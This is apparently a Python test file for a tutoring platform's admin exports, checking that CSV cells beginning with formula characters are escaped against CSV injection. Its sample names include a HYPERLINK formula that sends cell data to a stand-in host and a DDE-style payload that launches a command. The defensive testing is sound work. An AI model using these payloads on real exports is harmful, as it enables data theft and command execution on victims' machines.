"""CSV that cannot execute: every export and the journal write through api/csvout.py, which prefixes a cell that
begins with `=`, `+`, `-`, `@`, tab or carriage return with `'` (the contract's CSV rule, OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.csvout import FORMULA_LEAD, cell, stream
from tests.support.api import API, Actor, ok, signup

pytestmark = pytest.mark.cloned_database

NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"open me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tx",
    "\rx",
)


def cells_are_safe(text: str) -> list[list[str]]:
    """Parse CSV and assert no cell would be evaluated by a spreadsheet."""
    table = list(csv.reader(io.StringIO(text, newline="")))
    for row in table:
        for c in row:
            assert not c.startswith(FORMULA_LEAD), (c, row)
    return table


@given(st.one_of(st.text(), st.integers(), st.floats()))
def test_a_cell_never_begins_a_formula_and_keeps_its_text(value: Any) -> None:
    text, out = str(value), cell(value)
    assert not out.startswith(FORMULA_LEAD)
    assert out == text or (out == "'" + text and text.startswith(FORMULA_LEAD))


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=4), max_size=20))
def test_the_stream_round_trips_every_row(rows: list[list[Any]]) -> None:
    text = b"".join(stream(["a", "b"], rows)).decode()
    table = cells_are_safe(text)
    assert table[0] == ["a", "b"]
    assert len(table) == len(rows) + 1


def test_every_export_escapes_formula_cells(client: Any, admin: Actor) -> None:
    last = None
    names = [n for n in NAMES if n == n.strip()]  # names are stored trimmed: "\tx" becomes "x"
    for name in names:
        signup(client, "student", full_name=name)
        _, last = signup(client, "tutor", full_name=name)
    assert last is not None
    seen = {**admin.auth, "X-Min-Position": last.headers["X-Event-Position"]}
    for dataset in ("users", "tutors", "bookings", "payments"):
        r = client.get(f"{API}/admin/exports/{dataset}", params={"format": "csv"}, headers=seen)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        table = cells_are_safe(r.text)
        if dataset in ("users", "tutors"):
            seen_names = {row[table[0].index("full_name")] for row in table[1:]}
            assert {"'" + n for n in names} <= seen_names, seen_names
        # JSON keeps the text as it is: the rule is about spreadsheets
        if dataset == "users":
            items = ok(client.get(f"{API}/admin/exports/users", params={"format": "json"}, headers=seen))
            assert set(names) <= {i["full_name"] for i in items}
